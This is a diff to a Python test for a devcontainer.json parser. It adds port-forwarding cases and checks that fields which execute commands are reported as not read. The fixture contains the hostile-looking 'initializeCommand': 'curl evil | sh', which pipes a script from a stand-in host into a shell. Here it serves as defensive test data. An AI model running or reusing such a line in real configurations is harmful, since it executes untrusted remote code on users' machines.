@@ -394,7 +394,8 @@ DEVCONTAINER = """\
 {
     "name": "x", /* a comment, with "quotes" */
     "image": "registry.example/team/py:3.12",
-    "forwardPorts": [8000, "db:5432"],
+    "forwardPorts": [8000, "db:5432", "localhost:5173", 3000, 70000, true, 8000],
+    "portsAttributes": {"2999-3001": {"label": "range"}, "8000": {"label": "API"}, "db:5432": {"label": "no"}},
     "containerEnv": {"A": "1", "FROM_HERE": "${localEnv:HOME}", "URL": "https://x.example//y,}"},
     "postCreateCommand": "pip install -r requirements.txt",
     "initializeCommand": "curl evil | sh",
@@ -415,8 +416,10 @@ def test_a_devcontainer_gives_its_image_and_nothing_that_acts_here(tmp_path: Pat
     text = noticed(found)
     for key in ("postCreateCommand", "initializeCommand", "mounts", "privileged", "runArgs", "containerEnv.FROM_HERE"):
         assert f"{key} is not read" in text, key
-    assert "port 8000 is forwarded by no session" in text
-    assert "'db:5432'" in text
+    assert [str(port) for port in spec.ports] == ["8000 API", "5173", "3000 range"]
+    for entry in ("db:5432", "70000", "True"):
+        assert f"forwardPorts '{entry}' is not read: a port of the one container" in text, entry
+    assert "portsAttributes" not in text
 
 
 def test_a_devcontainer_gives_its_build(tmp_path: Path) -> None:
